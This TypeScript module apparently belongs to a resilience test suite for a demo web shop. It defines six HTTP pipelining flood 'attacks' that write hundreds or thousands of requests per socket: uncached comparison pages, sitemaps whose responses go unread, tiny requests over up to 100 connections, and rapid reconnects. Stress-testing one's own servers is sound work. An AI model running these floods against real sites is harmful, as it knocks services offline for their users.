import { type Attack, closed, open, repeated, requestText } from "./attack.ts";

/** Parts of the demo company, in all combinations that a comparison takes. */
function comparison(at: number): string {
  const ids = Array.from(
    { length: 4 },
    (_, index) => 101 + ((at * 7 + index * (1 + (at % 5))) % 60),
  );
  return `/product-compare?ids=${[...new Set(ids)].join(",")}`;
}

/** One write of 45 KB: 700 pages that are not cached. */
const comparisons: Attack = {
  name: "700 comparisons in one write",
  run: (origin, stop) =>
    repeated(1, stop, async () => {
      const socket = await open(origin, stop);
      const { hostname } = new URL(origin);
      socket?.write(
        Array.from(
          { length: 700 },
          (_, at) => `GET ${comparison(at)} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`,
        ).join(""),
      );
      socket?.resume();
      if (socket) await closed(socket, 10_000);
    }),
};

/** Large responses, not compressed, that are never read. */
const unreadSitemaps: Attack = {
  name: "10 × 1,400 sitemaps, unread",
  run: (origin, stop) =>
    repeated(10, stop, async () => {
      const socket = await open(origin, stop);
      socket?.pause();
      socket?.write(requestText("/sitemap.xml").repeat(1_400));
      if (socket) await closed(socket, 5_000);
      socket?.destroy();
    }),
};

/** The smallest requests there are, as many as fit into what is read at a time, over so many connections. */
const tinyRequests = (name: string, connections: number): Attack => ({
  name,
  run: (origin, stop) =>
    repeated(connections, stop, async () => {
      const socket = await open(origin, stop);
      socket?.resume();
      socket?.write("GET / HTTP/1.1\r\nHost:a\r\n\r\n".repeat(2_500));
      if (socket) await closed(socket, 2_000);
      socket?.destroy();
    }),
});

/** A page that is cached, some times more than a connection may, over connections that come again at once. */
const reopening: Attack = {
  name: "10 that pipeline and reopen",
  run: (origin, stop) =>
    repeated(10, stop, async () => {
      const socket = await open(origin, stop);
      socket?.resume();
      socket?.write(requestText("/").repeat(40));
      if (socket) await closed(socket, 2_000);
      socket?.destroy();
    }),
};

/** Requests the maximum number of comparisons per connection, over many connections. */
const politeComparisons: Attack = {
  name: "comparisons over 60 connections",
  run: (origin, stop) =>
    repeated(60, stop, async () => {
      const socket = await open(origin, stop);
      socket?.resume();
      socket?.write(
        Array.from({ length: 8 }, (_, at) =>
          requestText(comparison(at), at === 7 ? { Connection: "close" } : {}),
        ).join(""),
      );
      if (socket) await closed(socket, 10_000);
      socket?.destroy();
    }),
};

export const pipelining: readonly Attack[] = [
  comparisons,
  unreadSitemaps,
  tinyRequests("tiny requests over 10 connections", 10),
  tinyRequests("tiny requests over 100 connections", 100),
  reopening,
  politeComparisons,
];
